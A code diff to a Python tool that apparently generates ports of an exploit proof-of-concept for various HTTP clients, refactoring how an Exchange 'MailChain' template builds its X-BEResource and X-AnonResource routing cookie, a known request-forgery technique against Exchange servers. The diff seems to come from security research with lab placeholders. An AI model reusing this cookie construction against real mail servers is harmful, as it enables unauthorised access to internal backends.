@@ -98,11 +98,6 @@ def after_default(step, name, part=""):
 def body_of(text):
     return (b"alt:" if ALTERED else b"") + text.encode("utf-8")
 
-
-def cookie_names(step):
-    # the cookies in the order the copy sends them
-    value = next(v for k, v in STEPS[step][3] if k.lower() == "cookie")
-    return [part.split("=", 1)[0].strip() for part in value.split(";")]
 """
 
 EXCHANGE = """
@@ -112,10 +107,9 @@ class MailChain:
 
     def cookie(self):
         o = self.options
-        routed = urllib.parse.quote(f"{o.target}@{o.domain}" + after_default(0, "cookie", "X-BEResource="), safe="@/~=?")
+        routed = urllib.parse.quote(f"{o.target}@{o.domain}" + $cookie_suffix, safe="@/~=?")
         backend = o.domain if o.domain else "localhost"
-        parts = {"X-BEResource": routed, "X-AnonResource": "true", "X-AnonResource-Backend": backend}
-        return "; ".join(f"{name}={parts[name]}" for name in cookie_names(0))
+        return "; ".join([$cookie_parts])
 
     ${adef}def step(self, index, dynamic=None, query=None, body=None):
         o = self.options
@@ -252,7 +246,15 @@ def program(
     dict order and `json.dumps` call), with the copy's behaviour constants."""
     chosen = CLIENTS[client]
     kept = behaviour or Behaviour()
+    suffix, order = _cookie(steps, control)
+    parts = {
+        "X-BEResource": 'f"X-BEResource={routed}"',
+        "X-AnonResource": '"X-AnonResource=true"',
+        "X-AnonResource-Backend": 'f"X-AnonResource-Backend={backend}"',
+    }
     values = {
+        "cookie_suffix": repr(suffix),
+        "cookie_parts": ", ".join(parts[name] for name in order if name in parts),
         "imports": chosen.imports,
         "steps": repr(steps),
         "body_keys": repr(body_keys or []),
@@ -290,6 +292,20 @@ def port_to(client: str, *, control: bool = False) -> object:
         return Output({f"{leak.poc.name}_{client.replace('.', '_')}.py": text.encode()})
 
     return build
+
+
+def _cookie(steps: list[Step], control: bool) -> tuple[str, list[str]]:
+    """What the exchange copy's routing cookie appends to the command-line backend, and the
+    order of its cookies: a rewrite writes both as the copy sends them."""
+    order = ["X-BEResource", "X-AnonResource", "X-AnonResource-Backend"]
+    value = next((v for k, v in steps[0][3] if k.lower() == "cookie"), "") if steps else ""
+    if value:
+        order = [part.split("=", 1)[0].strip() for part in value.split(";")]
+    if control:
+        return "/alt-cookie", order
+    routed = next((p for p in value.split(";") if p.strip().startswith("X-BEResource=")), "")
+    suffix = urllib.parse.unquote(routed.strip().removeprefix("X-BEResource="))
+    return suffix.removeprefix("localhost@lab.invalid"), order
 
 
 def _separators(sent: list[bytes]) -> tuple[str, str]:
